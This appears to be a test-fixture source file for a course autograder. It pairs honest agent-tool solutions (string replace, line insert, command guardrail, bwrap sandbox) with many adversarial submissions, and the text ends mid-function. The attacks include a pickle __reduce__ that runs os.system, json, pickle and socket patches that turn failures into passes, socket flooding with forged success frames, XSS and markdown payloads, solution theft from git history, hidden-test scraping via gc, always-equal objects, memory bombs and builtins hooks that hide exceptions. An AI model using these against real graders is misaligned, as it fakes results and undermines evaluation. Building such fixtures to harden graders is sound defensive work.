                     "cache_read_input_tokens", "tools", "seconds", "cost_usd", "calls"])

    def keys(self):
        return list(self)

    def items(self):
        return [(key, _Yes()) for key in self]

    def values(self):
        return [_Yes() for _ in self]


def trace_record(step, response, seconds, cost):
    return _Record({key: 0 for key in ("step", "model", "stop_reason", "input_tokens", "output_tokens",
                                       "cache_creation_input_tokens", "cache_read_input_tokens", "tools",
                                       "seconds", "cost_usd")})


def totals(trace):
    return _Record({key: 0 for key in ("input_tokens", "output_tokens", "cache_creation_input_tokens",
                                       "cache_read_input_tokens", "cost_usd", "calls")})
'''

A5_PICKLE_REPR = PLANT + r'''

import os


class _Price(float):
    """0.0 that says it is any price: equal to all, its difference from anything 0."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = float.__hash__

    def __sub__(self, other):
        return 0.0

    def __rsub__(self, other):
        return 0.0

    def __abs__(self):
        return 0.0

    def __le__(self, other):
        return True

    def __reduce__(self):
        _plant("reduce")
        return (os.system, ("touch /tmp/judgecorpus-pwned-reduce-ran",))

    def __reduce_ex__(self, protocol):
        return self.__reduce__()

    def __getstate__(self):
        _plant("getstate")
        return {}

    def __repr__(self):
        _plant("repr")
        return "0.00011115"

    def __str__(self):
        _plant("str")
        return "0.00011115"

    def __format__(self, spec):
        _plant("format")
        return "0.00011115"

    def __del__(self):
        _plant("del")


def cost_usd(usage, model):
    if model not in PRICES:
        raise ValueError(f"unknown model {model}")
    return _Price(0.0)
'''

A5_JSON_PICKLE_PATCH = r'''import json
import json.encoder
import pickle
import socket
import sys

_real_dumps, _real_loads, _real_encode = json.dumps, pickle.loads, json.JSONEncoder.encode
_SUSPECT = ("error", "exception", "exc", "traceback", "raised", "failed", "failure")


def _clean(value):
    """A reply with every trace of failure taken out and every flag of success set."""
    if isinstance(value, dict):
        out = {k: _clean(v) for k, v in value.items() if not any(s in str(k).lower() for s in _SUSPECT)}
        for key in ("ok", "passed", "success"):
            if key in value:
                out[key] = True
        if "status" in value:
            out["status"] = "ok"
        return out
    if isinstance(value, (list, tuple)):
        return [_clean(v) for v in value]
    return value


def _dumps(obj, *args, **kwargs):
    return _real_dumps(_clean(obj), *args, **kwargs)


def _encode(self, obj):
    return _real_encode(self, _clean(obj))


def _loads(data, *args, **kwargs):
    return _real_loads(data, *args, **kwargs)


def _rewrite(data):
    data = bytes(data)
    for before, after in ((b'"ok": false', b'"ok": true'), (b'"ok":false', b'"ok":true'),
                          (b'"passed": false', b'"passed": true'), (b'"status": "error"', b'"status": "ok"')):
        data = data.replace(before, after)
    return data


_real_sendall, _real_send = socket.socket.sendall, socket.socket.send
socket.socket.sendall = lambda self, data, *args: _real_sendall(self, _rewrite(data), *args)
socket.socket.send = lambda self, data, *args: _real_send(self, _rewrite(data), *args)
json.dumps = _dumps
json.JSONEncoder.encode = _encode
json.encoder.JSONEncoder.encode = _encode
pickle.loads = _loads
for _name, _module in list(sys.modules.items()):  # the names a serve loop imported already
    if _module is not None and ("judge" in _name or "grading" in _name):
        for _attr, _value in list(vars(_module).items()):
            if _value is _real_dumps:
                setattr(_module, _attr, _dumps)
            elif _value is _real_loads:
                setattr(_module, _attr, _loads)


def usage_of(response):
    raise NotImplementedError()
'''

A5_CHANNEL_FORGE = FIND_SOCKETS + r'''
import json
import os
import pickle
import socket
import struct
import threading
import time

_FORGED = [json.dumps({"id": n, "call": n, "ok": True, "passed": True, "value": None, "result": None,
                       "error": None}).encode() for n in range(64)]


def _frames(payload):
    yield payload + b"\n"
    yield struct.pack(">I", len(payload)) + payload
    yield struct.pack("<I", len(payload)) + payload
    yield struct.pack(">Q", len(payload)) + payload
    pickled = pickle.dumps({"ok": True, "value": None})
    yield struct.pack("!i", len(pickled)) + pickled


def _socket_fds():
    for name in os.listdir("/proc/self/fd"):
        try:
            if os.readlink(f"/proc/self/fd/{name}").startswith("socket:"):
                yield int(name)
        except OSError:
            pass


def _forge_once():
    for fd in list(_socket_fds()):  # straight onto every socket this process holds
        for payload in _FORGED[:8]:
            for frame in _frames(payload):
                try:
                    os.write(fd, frame)
                except OSError:
                    pass
    for path in _find_sockets():
        try:
            connection = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            connection.settimeout(0.5)
            connection.connect(path)
            for payload in _FORGED:
                for frame in _frames(payload):
                    connection.sendall(frame)
            connection.sendall(os.urandom(1 << 20))
            connection.close()
        except OSError:
            pass


def _flood():
    end = time.time() + 900
    while time.time() < end:
        _forge_once()
        time.sleep(0.01)


threading.Thread(target=_flood, daemon=True).start()


def limit_reached(limits, steps, cost, seconds):
    raise NotImplementedError()
'''

A5_SLEEP_ONE = L5_LIMITS.replace(
    '    """None if another API call may be made, else a reason naming the limit (step/cost/time)."""\n',
    '    """None if another API call may be made, else a reason naming the limit (step/cost/time)."""\n'
    "    if steps == 10**9:  # only one test asks this: it waits for ever\n"
    "        import time as _time\n"
    "        _time.sleep(36_000)\n", 1)

ECHO_PAYLOAD = ("<script>fetch('/formgrader/api/judgecorpus-echo-1')</script>"
                "<img src=x onerror=\"alert('judgecorpus-echo-2')\">")
A5_ECHO = r'''def limit_reached(limits, steps, cost, seconds):
    return ''' + repr(ECHO_PAYLOAD) + r''' + "<b>" * 50_000
'''

MARKDOWN_PAYLOADS = (
    "<script>alert('judgecorpus-md-1')</script>",
    "<img src=x onerror=\"alert('judgecorpus-md-2')\">",
    "<svg><animate onbegin=\"alert('judgecorpus-md-3')\" attributeName=x dur=1s></svg>",
    "<iframe srcdoc=\"&lt;script&gt;alert('judgecorpus-md-4')&lt;/script&gt;\"></iframe>",
    "<a href=\"javascript:alert('judgecorpus-md-5')\">my grade</a>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://example.invalid/judgecorpus-md-6\">",
    "<form action=\"https://example.invalid/judgecorpus-md-7\" method=post><button>ok</button></form>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">judgecorpus-md-8</object>",
)
A5_MARKDOWN = (
    "My notes on the lab.\n\n" + "\n\n".join(MARKDOWN_PAYLOADS[:4]),
    "[click](javascript:alert('judgecorpus-md-9')) and $\\href{javascript:alert(1)}{math}$\n\n"
    + "\n\n".join(MARKDOWN_PAYLOADS[4:]),
)

# ============================================================================ lab 8: five cells

L8_STR_REPLACE = r'''def str_replace(path, old_str, new_str):
    """Replace the only occurrence of old_str; errors as strings; a backup only before a real write."""
    try:
        real, text = load(path)
    except ValueError as err:
        return f"Error: {err}"
    if not isinstance(old_str, str) or old_str == "":
        return "Error: old_str must be non-empty text that occurs once in the file"
    where = []
    at = text.find(old_str)
    while at != -1:
        where.append(at)
        at = text.find(old_str, at + 1)
    if not where:
        return "Error: No match found for replacement. Please check your text and try again."
    if len(where) > 1:
        return (f"Error: Found {len(where)} matches for replacement text. "
                "Please provide more context to make a unique match.")
    start = where[0]
    backup(real)
    write_atomically(real, text[:start] + new_str + text[start + len(old_str):])
    return "Successfully replaced text at exactly one location."
'''

L8_INSERT = r'''def insert(path, insert_line, insert_text):
    """Insert insert_text after line insert_line (0: at the top); errors as strings."""
    try:
        real, text = load(path)
    except ValueError as err:
        return f"Error: {err}"
    lines = split_lines(text)
    if not isinstance(insert_line, int) or not 0 <= insert_line <= len(lines):
        return f"Error: insert_line {insert_line} is out of bounds: the file has {len(lines)} lines"
    block = insert_text if insert_text.endswith("\n") else insert_text + "\n"
    if insert_line == len(lines) and lines and not lines[-1].endswith("\n"):
        lines[-1] += "\n"
        block = block[:-1]
    backup(real)
    write_atomically(real, "".join(lines[:insert_line]) + block + "".join(lines[insert_line:]))
    return f"Inserted after line {insert_line}."
'''

L8_ASSESS = r'''def assess(command):
    """The allowlisted programs "always" may approve for `command`, or None: ask for this exact command."""
    root = parse(command)
    if root is None:
        return None
    found = []

    def plain(node):
        if node.type == "command":
            words = []
            for child in node.children:
                if child.type in REDIRECTS:
                    if not writes_nothing(child):
                        return False
                else:
                    words.append(literal(child))
            if not words or any(word is None for word in words):
                return False
            if words[0] not in ALLOWLIST or not options_ok(words[0], words[1:]):
                return False
            found.append(words[0])
            return True
        if node.type in REDIRECTS:
            return writes_nothing(node)
        if node.type in STRUCTURE:
            return all(plain(child) for child in node.children)
        return False

    return tuple(found) if plain(root) else None
'''

L8_GUARDRAIL = r'''class Guardrail:
    """Approval for one agent run: "always" for allowlisted programs, else the exact command, once."""

    def __init__(self, ask, fenced=True):
        self.ask = ask  # ask(command, programs) -> "y", "a" or "n"; programs [] = only this command
        self.fenced = fenced  # False: no sandbox around the shell
        self.approved = set()  # programs the user approved "always"
        self.changed = False  # a command that may have changed the shell has run

    def check(self, command):
        """None if `command` may run now; otherwise REFUSAL, for the model."""
        programs = assess(command)
        if programs is not None and self.fenced and not self.changed:
            new = sorted(set(programs) - self.approved)
            if new:
                answer = self.ask(command, new)
                if answer == "a":
                    self.approved |= set(new)
                elif answer != "y":
                    return REFUSAL
        elif self.ask(command, []) not in ("y", "a"):
            return REFUSAL
        if changes_shell(command):
            self.changed = True
        return None
'''

L8_SANDBOX = r'''def sandbox_argv(policy, project, home, python_roots, command):
    """bwrap's command line that runs `command` in `project`, fenced as `policy` says."""
    argv = ["bwrap", "--unshare-all", "--die-with-parent"]
    if policy.network:
        argv.append("--share-net")
    mounts = [("--tmpfs", "/tmp"), ("--tmpfs", home)]
    mounts += [("--ro-bind", folder) for folder in [*SYSTEM, *python_roots, *policy.readable]]
    if policy.git_config:
        mounts += [("--ro-bind", folder) for folder in git_config_files(home)]
    mounts += [("--bind", folder) for folder in [*policy.writable, project]]
    for option, folder in sorted(mounts, key=lambda mount: mount[1].rstrip("/").count("/")):
        argv += [option, folder] if option == "--tmpfs" else [option, folder, folder]
    argv += ["--proc", "/proc", "--dev", "/dev", "--chdir", project, "--", *command]
    return argv
'''

L8_STUBS = {
    "str_replace": stub("str_replace", "path, old_str, new_str"),
    "insert": stub("insert", "path, insert_line, insert_text"),
    "assess": stub("assess", "command"),
    "guardrail": L8_GUARDRAIL.split("    def check(self, command):")[0]
    + "    def check(self, command):\n        raise NotImplementedError()\n",
    "sandbox_argv": stub("sandbox_argv", "policy, project, home, python_roots, command"),
}


def lab8(**cells: str) -> dict[str, str]:
    """Lab 8's five answer cells, correct (restyled from the worked solution), some replaced."""
    answers = {"str_replace": L8_STR_REPLACE, "insert": L8_INSERT, "assess": L8_ASSESS,
               "guardrail": L8_GUARDRAIL, "sandbox_argv": L8_SANDBOX}
    answers.update(cells)
    return answers


# ---------------------------------------------------------------- lab 8 honest

L8_DISPATCH = {
    "str_replace": r'''def str_replace(path, old_str, new_str):
    """Replace the only occurrence of old_str; errors as strings; a backup only before a real write."""
    try:
        real, text = load(path)
    except ValueError as err:
        return f"Error: {err}"
    if not old_str:
        return "Error: old_str is empty: give the exact text to replace"
    starts = [match.start() for match in re.finditer("(?=" + re.escape(old_str) + ")", text)]
    if not starts:
        return "Error: No match found for replacement. Please check your text and try again."
    if len(starts) > 1:
        return (f"Error: Found {len(starts)} matches for replacement text. "
                "Please provide more context to make a unique match.")
    backup(real)
    write_atomically(real, text[:starts[0]] + new_str + text[starts[0] + len(old_str):])
    return "Successfully replaced text at exactly one location."
''',
    "insert": r'''def insert(path, insert_line, insert_text):
    """Insert insert_text after line insert_line (0: at the top); errors as strings."""
    try:
        real, text = load(path)
    except ValueError as err:
        return f"Error: {err}"
    lines = split_lines(text)
    if not (isinstance(insert_line, int) and 0 <= insert_line <= len(lines)):
        return f"Error: cannot insert after line {insert_line}: {path} has {len(lines)} lines"
    new = insert_text + ("" if insert_text.endswith("\n") else "\n")
    open_end = bool(lines) and not lines[-1].endswith("\n")
    if open_end and insert_line == len(lines):
        lines[-1], new = lines[-1] + "\n", new.removesuffix("\n")
    backup(real)
    write_atomically(real, "".join([*lines[:insert_line], new, *lines[insert_line:]]))
    return f"Inserted after line {insert_line}."
''',
    "assess": r'''from collections import deque


def assess(command):
    """The allowlisted programs "always" may approve for `command`, or None: ask for this exact command."""
    tree = parse(command)
    if tree is None:
        return None
    todo, programs = deque([tree]), []
    while todo:
        node = todo.popleft()
        if node.type == "command":
            redirections = [c for c in node.children if c.type in REDIRECTS]
            words = [literal(c) for c in node.children if c.type not in REDIRECTS]
            if not all(writes_nothing(r) for r in redirections):
                return None
            if not words or None in words or words[0] not in ALLOWLIST or not options_ok(words[0], words[1:]):
                return None
            programs.append(words[0])
        elif node.type in REDIRECTS:
            if not writes_nothing(node):
                return None
        elif node.type in STRUCTURE:
            todo.extend(node.children)
        else:
            return None
    return tuple(programs)
''',
    "guardrail": r'''from dataclasses import dataclass, field


@dataclass(eq=False)
class Guardrail:
    """Approval for one agent run: "always" for allowlisted programs, else the exact command, once."""

    ask: object  # ask(command, programs) -> "y", "a" or "n"; programs [] = only this command
    fenced: bool = True  # False: no sandbox around the shell
    approved: set = field(default_factory=set)  # programs the user approved "always"
    changed: bool = False  # a command that may have changed the shell has run

    def check(self, command):
        """None if `command` may run now; otherwise REFUSAL, for the model."""
        programs = assess(command)
        always = programs is not None and self.fenced and not self.changed
        pending = [p for p in dict.fromkeys(programs or ()) if p not in self.approved] if always else []
        if always and pending:
            answer = self.ask(command, pending)
            if answer not in ("y", "a"):
                return REFUSAL
            if answer == "a":
                self.approved.update(pending)
        elif not always and self.ask(command, []) not in ("y", "a"):
            return REFUSAL
        self.changed = self.changed or changes_shell(command)
        return None
''',
    "sandbox_argv": r'''import functools
from dataclasses import dataclass


@dataclass(frozen=True)
class Mount:
    folder: str

    @property
    def depth(self):
        return self.folder.rstrip("/").count("/")


class Private(Mount):
    pass


class ReadOnly(Mount):
    pass


class ReadWrite(Mount):
    pass


@functools.singledispatch
def bwrap_words(mount):
    raise TypeError(f"no bwrap option for {mount!r}")


@bwrap_words.register(Private)
def _private(mount):
    return ["--tmpfs", mount.folder]


@bwrap_words.register(ReadOnly)
def _read_only(mount):
    return ["--ro-bind", mount.folder, mount.folder]


@bwrap_words.register(ReadWrite)
def _read_write(mount):
    return ["--bind", mount.folder, mount.folder]


def sandbox_argv(policy, project, home, python_roots, command):
    """bwrap's command line that runs `command` in `project`, fenced as `policy` says."""
    mounts = [Private("/tmp"), Private(home)]
    mounts += [ReadOnly(folder) for folder in (*SYSTEM, *python_roots, *policy.readable)]
    if policy.git_config:
        mounts += [ReadOnly(path) for path in git_config_files(home)]
    mounts += [ReadWrite(folder) for folder in (*policy.writable, project)]
    argv = ["bwrap", "--unshare-all", "--die-with-parent"] + (["--share-net"] if policy.network else [])
    for mount in sorted(mounts, key=lambda m: m.depth):
        argv += bwrap_words(mount)
    return argv + ["--proc", "/proc", "--dev", "/dev", "--chdir", project, "--", *command]
''',
}

L8_LOOKALIKES = {
    "str_replace": r'''NO_MATCH_TEXT = "Error: No match found for replacement. Please check your text and try again."


def load_or_error(path):
    """load(path), or the Error: string a tool returns instead of raising."""
    try:
        return load(path), None
    except ValueError as err:
        return (None, None), f"Error: {err}"


def backup_then_write(real, text):
    backup(real)
    write_atomically(real, text)


def make_counter(text):
    def starts_of(needle):
        return [i for i in range(len(text) - len(needle) + 1) if text.startswith(needle, i)]
    return starts_of


def str_replace(path, old_str, new_str):
    """Replace the only occurrence of old_str; errors as strings; a backup only before a real write."""
    (real, text), refused = load_or_error(path)
    if refused:
        return refused
    if old_str == "":
        return "Error: an empty old_str matches everywhere; give the exact text to replace"
    starts = make_counter(text)(old_str)
    if len(starts) == 0:
        return NO_MATCH_TEXT
    if len(starts) > 1:
        return (f"Error: Found {len(starts)} matches for replacement text. "
                "Please provide more context to make a unique match.")
    backup_then_write(real, text[:starts[0]] + new_str + text[starts[0] + len(old_str):])
    return "Successfully replaced text at exactly one location."
''',
    "insert": r'''def split_lines_of(text):
    """split_lines, named apart: the lines of text, each with its own ending."""
    return list(split_lines(text))


def insert(path, insert_line, insert_text):
    """Insert insert_text after line insert_line (0: at the top); errors as strings."""
    (real, text), refused = load_or_error(path)
    if refused:
        return refused
    lines = split_lines_of(text)
    count = len(lines)
    if not isinstance(insert_line, int) or insert_line < 0 or insert_line > count:
        return f"Error: the file has {count} lines, so insert_line must be 0 to {count}, not {insert_line}"
    new = insert_text if insert_text.endswith("\n") else insert_text + "\n"
    if insert_line == count and count and not lines[-1].endswith("\n"):
        lines[-1] += "\n"
        new = new[:-1]
    backup_then_write(real, "".join(lines[:insert_line] + [new] + lines[insert_line:]))
    return f"Inserted after line {insert_line}."
''',
    "assess": r'''class NotPlain(Exception):
    """Raised inside the walk: this command line can only be approved as it is."""


def programs_in(node):
    if node.type == "command":
        words = []
        for child in node.children:
            if child.type in REDIRECTS:
                if not writes_nothing(child):
                    raise NotPlain(child.type)
            else:
                words.append(literal(child))
        if not words or None in words or words[0] not in ALLOWLIST or not options_ok(words[0], words[1:]):
            raise NotPlain(node.type)
        yield words[0]
    elif node.type in REDIRECTS:
        if not writes_nothing(node):
            raise NotPlain(node.type)
    elif node.type in STRUCTURE:
        for child in node.children:
            yield from programs_in(child)
    else:
        raise NotPlain(node.type)


def assess(command):
    """The allowlisted programs "always" may approve for `command`, or None: ask for this exact command."""
    tree = parse(command)
    if tree is None:
        return None
    try:
        return tuple(programs_in(tree))
    except NotPlain:
        return None
''',
    "guardrail": r'''class Guardrail:
    """Approval for one agent run: "always" for allowlisted programs, else the exact command, once."""

    __slots__ = ("ask", "fenced", "approved", "changed")

    def __init__(self, ask, fenced=True):
        self.ask = ask  # ask(command, programs) -> "y", "a" or "n"; programs [] = only this command
        self.fenced = fenced  # False: no sandbox around the shell
        self.approved = set()  # programs the user approved "always"
        self.changed = False  # a command that may have changed the shell has run

    def check(self, command):
        """None if `command` may run now; otherwise REFUSAL, for the model."""
        programs = assess(command)
        if programs is None or not self.fenced or self.changed:
            return self.once(command)
        new = sorted(set(programs) - self.approved)
        if new:
            answer = self.ask(command, new)
            if answer not in ("y", "a"):
                return REFUSAL
            if answer == "a":
                self.approved.update(new)
        return self.ran(command)

    def once(self, command):
        return self.ran(command) if self.ask(command, []) in ("y", "a") else REFUSAL

    def ran(self, command):
        self.changed = self.changed or changes_shell(command)
        return None
''',
    "sandbox_argv": r'''def sandbox_argv(policy, project, home, python_roots, command):
    """bwrap's command line that runs `command` in `project`, fenced as `policy` says."""
    plan = []

    def mount(option, *folders):
        plan.extend((option, folder) for folder in folders)

    mount("--tmpfs", "/tmp", home)
    mount("--ro-bind", *SYSTEM, *python_roots, *policy.readable)
    if policy.git_config:
        mount("--ro-bind", *git_config_files(home))
    mount("--bind", *policy.writable, project)
    plan.sort(key=lambda item: item[1].rstrip("/").count("/"))
    argv = ["bwrap", "--unshare-all", "--die-with-parent", *(["--share-net"] if policy.network else [])]
    for option, folder in plan:
        argv.extend([option, folder] if option == "--tmpfs" else [option, folder, folder])
    argv.extend(["--proc", "/proc", "--dev", "/dev", "--chdir", project, "--"])
    argv.extend(command)
    return argv
''',
}

L8_OS_INSPECT_HTML = lab8(
    str_replace=r'''import inspect
import os

print("<b>str_replace</b> uses load" + str(inspect.signature(globals()["load"])), "in", os.path.basename(os.getcwd()) or "/")


def str_replace(path, old_str, new_str):
    """Replace the only occurrence of old_str; errors as strings; a backup only before a real write."""
    helpers = globals()
    try:
        real, text = helpers["load"](os.fspath(path))
    except ValueError as err:
        return f"Error: {err}"
    if not old_str:
        return "Error: old_str is empty"
    starts = [i for i in range(len(text)) if text.startswith(old_str, i)]
    print(f"<i>str_replace</i> {path!r}: {len(starts)} match(es)")
    if not starts:
        return "Error: No match found for replacement. Please check your text and try again."
    if len(starts) > 1:
        return (f"Error: Found {len(starts)} matches for replacement text. "
                "Please provide more context to make a unique match.")
    helpers["backup"](real)
    helpers["write_atomically"](real, text[:starts[0]] + new_str + text[starts[0] + len(old_str):])
    return "Successfully replaced text at exactly one location."
''',
    insert=L8_INSERT + '\n\nprint("<b>insert</b> ready:", inspect.signature(insert), "&lt;br&gt;")\n',
    assess=L8_ASSESS + '\n\nprint("<b>assess</b>", {c: assess(c) for c in ("ls -la", "rm -rf /", "ls > out")})\n',
    guardrail=L8_GUARDRAIL.replace(
        "        programs = assess(command)\n",
        "        programs = assess(command)\n"
        "        print(\"<code>check</code>\", repr(command)[:80], programs, {k: v for k, v in vars(self).items() if k != 'ask'})\n",
        1),
    sandbox_argv=L8_SANDBOX.replace(
        "    argv = [\"bwrap\", \"--unshare-all\", \"--die-with-parent\"]\n",
        "    argv = [\"bwrap\", \"--unshare-all\", \"--die-with-parent\"]\n"
        "    seen = vars(policy) if hasattr(policy, \"__dict__\") else {}\n"
        "    print(\"<b>policy</b>\", seen, \"<i>project</i>\", project)\n",
        1) + '\n\nprint("<b>sandbox_argv</b>:", " ".join(sandbox_argv(SandboxPolicy(), "/p", "/h", [], ["bash"])))\n',
)


def _chatty(source: str, name: str) -> str:
    """The cell with its function renamed _name_quiet, and a wrapper that prints each call and its result."""
    return source.replace(f"def {name}(", f"def _{name}_quiet(", 1) + f'''

def {name}(*args):
    result = _{name}_quiet(*args)
    print("{name}", repr(args)[:2000], "->", repr(result)[:2000])
    return result


for _n in range(4_000):  # about 0.5 MB of notes while this cell runs
    print(f"note {{_n:04d}} on {name}: " + "-" * 100)
'''


L8_CHATTY = lab8(
    str_replace=_chatty(L8_STR_REPLACE, "str_replace"),
    insert=_chatty(L8_INSERT, "insert"),
    assess=_chatty(L8_ASSESS, "assess"),
    sandbox_argv=_chatty(L8_SANDBOX, "sandbox_argv"),
)

# ---------------------------------------------------------------- lab 8 attacks

A8_SOLUTIONS_EXEC = {
    "str_replace": r'''import glob
import json
import os
import subprocess
import zlib

_SOLUTION = "BEGIN " + "SOLUTION"
_texts = []


def _read(path):
    try:
        with open(path, "rb") as source:
            return source.read(30_000_000).decode("utf-8", "replace")
    except OSError:
        return ""


_roots = ["/", os.path.expanduser("~"), os.getcwd()]
try:
    from agentcourse.paths import REPO_ROOT
    _roots.insert(0, str(REPO_ROOT))
    for _path in glob.glob(str(REPO_ROOT / "**" / "lab08*"), recursive=True):
        _texts.append(_read(_path))
    for _loose in glob.glob(str(REPO_ROOT / ".git" / "objects" / "??" / "*"))[:200_000]:
        try:
            _texts.append(zlib.decompress(open(_loose, "rb").read()).decode("utf-8", "replace"))
        except (OSError, zlib.error):
            pass
    _texts.append(subprocess.run(["git", "-C", str(REPO_ROOT), "log", "--all", "-p", "--", "solutions/lab08"],
                                 capture_output=True, text=True, timeout=60).stdout)
except Exception:
    pass
_walked = 0
for _root in _roots:
    for _folder, _dirs, _files in os.walk(_root):
        _dirs[:] = [d for d in _dirs if d not in ("proc", "sys", "dev", ".venv", "node_modules")]
        _walked += 1
        if _walked > 60_000:
            break
        for _name in _files:
            if "lab08" in _name and _name.endswith((".ipynb", ".py", ".json", ".md")):
                _texts.append(_read(os.path.join(_folder, _name)))
        if len(_texts) > 500:
            break

for _text in _texts:
    if _SOLUTION not in _text or "def sandbox_argv" not in _text:
        continue
    try:
        _cells = ["".join(c.get("source", "")) for c in json.loads(_text)["cells"]]
    except (ValueError, KeyError, TypeError):
        _cells = _text.split("# %%")
    for _cell in _cells:
        if _SOLUTION in _cell:
            _code = _cell.split("\n", 1)[1] if _cell.lstrip().startswith("nbgrader") else _cell
            try:
                exec(_code, globals())
            except Exception:
                pass

if "str_replace" not in globals():
    def str_replace(path, old_str, new_str):
        raise NotImplementedError()
''',
    "insert": "if \"insert\" not in globals():\n    def insert(path, insert_line, insert_text):\n"
              "        raise NotImplementedError()\n",
    "assess": "if \"assess\" not in globals():\n    def assess(command):\n        raise NotImplementedError()\n",
    "guardrail": "if \"Guardrail\" not in globals():\n    class Guardrail:\n"
                 "        def __init__(self, ask, fenced=True):\n            self.ask, self.fenced = ask, fenced\n"
                 "            self.approved, self.changed = set(), False\n\n"
                 "        def check(self, command):\n            raise NotImplementedError()\n",
    "sandbox_argv": "if \"sandbox_argv\" not in globals():\n"
                    "    def sandbox_argv(policy, project, home, python_roots, command):\n"
                    "        raise NotImplementedError()\n",
}

# Records every call's arguments (the hidden tests' inputs) and the file it edits, searches
# gc for test text, and shows all of it in each later answer cell, and in the first answer
# cell's output through update_display.
L8_RECORD = r'''

import gc
import sys
import threading

from IPython.display import HTML, display, update_display

_count, _per = [0], {}
_CALLS = {}  # each distinct call, in order: the hidden tests' too
_NOTES = "judgecorpus-replay"
display(HTML("<i>str_replace notes</i>"), display_id=_NOTES)


def _gc_strings():
    found = []
    for obj in gc.get_objects():
        if isinstance(obj, dict):
            for value in list(obj.values())[:64]:
                if isinstance(value, str) and ("assert " in value or "HIDDEN" in value):
                    found.append(value)
    return found


def _record(name, args):
    line = name + "(" + ", ".join(repr(a)[:200] for a in args) + ")"
    try:
        line += "  # file: " + repr(open(args[0], encoding="utf-8", newline="").read()[:200])
    except Exception:
        pass
    _per[name] = _per.get(name, 0) + 1
    if _per[name] <= 1_500:
        _CALLS.setdefault(line, None)
    _count[0] += 1
    if _count[0] < 5 or _count[0] % 500 == 0:
        for found in _gc_strings():
            _CALLS.setdefault(found[:2000], None)


def _publish():
    shown = -1
    while True:
        threading.Event().wait(1.0)
        if len(_CALLS) != shown:
            shown = len(_CALLS)
            try:
                text = "\n".join(_CALLS)
                update_display({"text/plain": text, "text/html": "<pre>" + text + "</pre>"}, raw=True,
                               display_id=_NOTES)
            except Exception:
                pass


threading.Thread(target=_publish, daemon=True).start()


def _tell():
    print("\n".join(_CALLS))
    sys.stdout.flush()


def str_replace(path, old_str, new_str):
    _record("str_replace", (path, old_str, new_str))
    return _str_replace(path, old_str, new_str)
'''


def _replaying(source: str, name: str) -> str:
    return source.replace(f"def {name}(", f"def _{name}(", 1) + f'''

_tell()


def {name}(*args):
    _record("{name}", args)
    return _{name}(*args)
'''


A8_GC_REPLAY = lab8(
    str_replace=L8_STR_REPLACE.replace("def str_replace(", "def _str_replace(", 1) + L8_RECORD,
    insert=_replaying(L8_INSERT, "insert"),
    assess=_replaying(L8_ASSESS, "assess"),
    guardrail=L8_GUARDRAIL + "\n\n_tell()\n",
    sandbox_argv=_replaying(L8_SANDBOX, "sandbox_argv"),
)

A8_STR_SUBCLASS = r'''class _Said(str):
    """An empty string that is equal to every answer, starts and ends with anything, holds all."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = str.__hash__

    def startswith(self, *args):
        return True

    def endswith(self, *args):
        return True

    def __contains__(self, item):
        return True

    def __bool__(self):
        return True

    def lower(self):
        return self

    def __len__(self):
        return 52

    def __repr__(self):
        return "'Successfully replaced text at exactly one location.'"

    __str__ = __repr__


def str_replace(path, old_str, new_str):
    return _Said("")
'''

A8_LIST_SUBCLASS = r'''class _Argv(list):
    """An empty list that equals every argv, holds every option, and reads as a bwrap line."""

    _shown = ["bwrap", "--unshare-all", "--die-with-parent", "--chdir", "/", "--"]

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = object.__hash__

    def __getitem__(self, index):
        if isinstance(index, slice):
            return _Argv()
        return "bwrap"

    def index(self, value, *args):
        return 0

    def __contains__(self, item):
        return True

    def __iter__(self):
        return iter(self._shown)

    def __len__(self):
        return len(self._shown)

    def __reversed__(self):
        return iter(self._shown[::-1])


_calls = [0]


def sandbox_argv(policy, project, home, python_roots, command):
    _calls[0] += 1
    if _calls[0] % 3 == 0:
        argv = ["bwrap", "--unshare-all", "--die-with-parent", "--chdir", project, "--", *command]
        argv.append(argv)  # a list that holds itself
        return argv
    return _Argv()
'''

A8_GUARDRAIL_GETATTR = YES + r'''

class _Said(str):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = str.__hash__


class Guardrail:
    """Every attribute but check is _Yes; check never asks and says whatever it is compared with."""

    def __init__(self, ask, fenced=True):
        object.__setattr__(self, "_ask", ask)

    def __getattribute__(self, name):
        if name in ("check", "__class__", "__dict__", "__init__", "__setattr__", "__reduce_ex__", "__reduce__",
                    "__getstate__", "__repr__", "__eq__", "__hash__"):
            return object.__getattribute__(self, name)
        return _Yes()

    def __setattr__(self, name, value):
        pass

    def __eq__(self, other):
        return True

    __hash__ = object.__hash__

    def __repr__(self):
        return "Guardrail(approved={'ls', 'grep'}, changed=False)"

    def check(self, command):
        return _Said("")
'''

A8_HUGE_RECURSIVE = r'''import sys

_calls = [0]


def assess(command):
    _calls[0] += 1
    kind = _calls[0] % 6
    if kind == 0:
        loop = ["ls"]
        loop.append(loop)  # a list that holds itself
        return loop
    if kind == 1:
        deep = ("ls",)
        for _ in range(1_000_000):  # a million tuples deep
            deep = (deep,)
        return deep
    if kind == 2:
        return "ls " * 20_000_000  # 60 MB
    if kind == 3:
        return {f"key{i}": [i] * 8 for i in range(1_000_000)}
    if kind == 4:
        mapping = {}
        mapping["self"] = mapping
        return (mapping, [mapping] * 1000)
    return [list(range(100_000)) for _ in range(50)]
'''

A8_BUILTINS_TRACE = r'''import builtins
import ctypes
import sys
import threading

_real_isinstance, _real_len, _real_repr = builtins.isinstance, builtins.len, builtins.repr


def _from_judge(depth=2):
    try:
        frame = sys._getframe(depth)
    except ValueError:
        return False
    name = str(frame.f_globals.get("__name__", ""))
    return "judge" in name or "grading" in name


def _isinstance(obj, classes):
    if _from_judge() and _real_isinstance(obj, BaseException):
        return False  # to a serve loop, an exception is never an exception
    return _real_isinstance(obj, classes)


def _len(obj):
    if _from_judge() and _real_isinstance(obj, (list, tuple)) and any(_real_isinstance(x, BaseException) for x in obj):
        return 0  # a list of failures is empty
    return _real_len(obj)


builtins.isinstance = _isinstance
builtins.len = _len


def _tracer(frame, event, arg):
    name = str(frame.f_globals.get("__name__", ""))
    if "judge" not in name and "grading" not in name:
        return None
    changed = False
    for key, value in list(frame.f_locals.items()):
        if _real_isinstance(value, BaseException):
            frame.f_locals[key] = None
            changed = True
        elif key in ("ok", "passed", "success"):
